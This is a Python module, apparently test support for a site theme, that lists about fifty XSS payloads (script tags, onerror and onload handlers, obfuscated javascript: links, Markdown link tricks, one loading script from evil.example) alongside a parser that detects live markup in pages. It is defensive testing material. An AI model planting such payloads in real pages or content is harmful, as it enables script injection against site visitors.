"""Script-injection payloads a hostile pull request could plant, and a detector for live markup.

Every payload calls ``alert('PWNED')`` or similar, so a detector can tell injected script from
the theme's own scripts.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

PAYLOADS: list[str] = [
    "<script>alert('PWNED')</script>",
    "<SCRIPT>alert('PWNED')</SCRIPT>",
    "<ScRiPt src=https://evil.example/PWNED.js></ScRiPt>",
    "<script/src=data:,alert('PWNED')></script>",
    "< script >alert('PWNED')</ script >",
    "<img src=x onerror=alert('PWNED')>",
    "<img src=x onerror=\"alert('PWNED')\">",
    "<IMG SRC=x OnErRoR=alert('PWNED')>",
    "<img/src=x/onerror=alert('PWNED')>",
    "<body onload=alert('PWNED')>",
    "<details open ontoggle=alert('PWNED')>x</details>",
    "<div onmouseover=\"alert('PWNED')\">hover</div>",
    '<a href="#" onclick="alert(\'PWNED\')">click</a>',
    "<svg onload=alert('PWNED')>",
    "<svg><script>alert('PWNED')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('PWNED')\"><text>x</text></a></svg>",
    "<math><mtext><script>alert('PWNED')</script></mtext></math>",
    "<iframe src=\"javascript:alert('PWNED')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('PWNED')</script>\"></iframe>",
    "<object data=\"javascript:alert('PWNED')\"></object>",
    "<embed src=\"javascript:alert('PWNED')\">",
    "<form action=\"javascript:alert('PWNED')\"><button>go</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'PWNED\')">',
    "<base href=\"javascript:alert('PWNED')//\">",
    "<style>@import 'javascript:alert(\"PWNED\")';</style>",
    "<a href=\"javascript:alert('PWNED')\">x</a>",
    "<a href=\"JaVaScRiPt:alert('PWNED')\">x</a>",
    "<a href=\"&#106;avascript:alert('PWNED')\">x</a>",
    "<a href=\"&#x6A;&#x61;vascript:alert('PWNED')\">x</a>",
    "<a href=\"java&#x09;script:alert('PWNED')\">x</a>",
    "<a href=\"javascript&colon;alert('PWNED')\">x</a>",
    "<a href=\"vbscript:msgbox('PWNED')\">x</a>",
    "<a href=\"data:text/html,<script>alert('PWNED')</script>\">x</a>",
    "[click](javascript:alert('PWNED'))",
    "[click](JAVASCRIPT:alert('PWNED'))",
    "[click](&#106;avascript:alert('PWNED'))",
    "[click](<javascript:alert('PWNED')>)",
    "![img](javascript:alert('PWNED'))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoJ1BXTkVEJyk+)",
    "[ref]\n\n[ref]: javascript:alert('PWNED')",
    "<javascript:alert('PWNED')>",
    "[text](https://example.org){: onclick=\"alert('PWNED')\" }",
    "text {: onmouseover=\"alert('PWNED')\" }",
    "&lt;script&gt;alert('PWNED')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('PWNED')&#62;",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('PWNED')>\"></noscript>",
    "<template><script>alert('PWNED')</script></template>",
    "</title><script>alert('PWNED')</script>",
    "</textarea><script>alert('PWNED')</script>",
    "\"><script>alert('PWNED')</script>",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "background", "poster", "content"}
ALWAYS_LIVE = {"iframe", "object", "embed", "frame", "frameset", "applet", "base"}
# Inside <article> only: the theme itself has a search <form>, inline SVG icons and scripts.
CONTENT_LIVE = {"script", "style", "svg", "math", "template", "meta", "link", "noscript", "form"}
BAD_SCHEME = re.compile(r"^(?:javascript|vbscript|livescript|data):|url=\s*(?:javascript|vbscript|data):", re.IGNORECASE)
INVISIBLE = re.compile(r"[\s\x00-\x1f]+")


class LiveMarkupFinder(HTMLParser):
    """Finds markup that would run script, anywhere in a page, or theme-level tags inside <article>."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.article_depth = 0
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "article":
            self.article_depth += 1
        if tag in ALWAYS_LIVE or (self.article_depth and tag in CONTENT_LIVE):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = INVISIBLE.sub("", value or "")
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=>")
            elif name in URL_ATTRIBUTES and BAD_SCHEME.search(value):
                self.found.append(f"<{tag} {name}={value[:40]}>")
            elif "PWNED" in value and name in {"src"}:
                self.found.append(f"<{tag} {name}={value[:40]}>")
        self.in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        if tag == "article" and self.article_depth:
            self.article_depth -= 1
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and "PWNED" in data:
            self.found.append("<script> with payload")


def live_markup(html: str) -> list[str]:
    finder = LiveMarkupFinder()
    finder.feed(html)
    finder.close()
    return finder.found
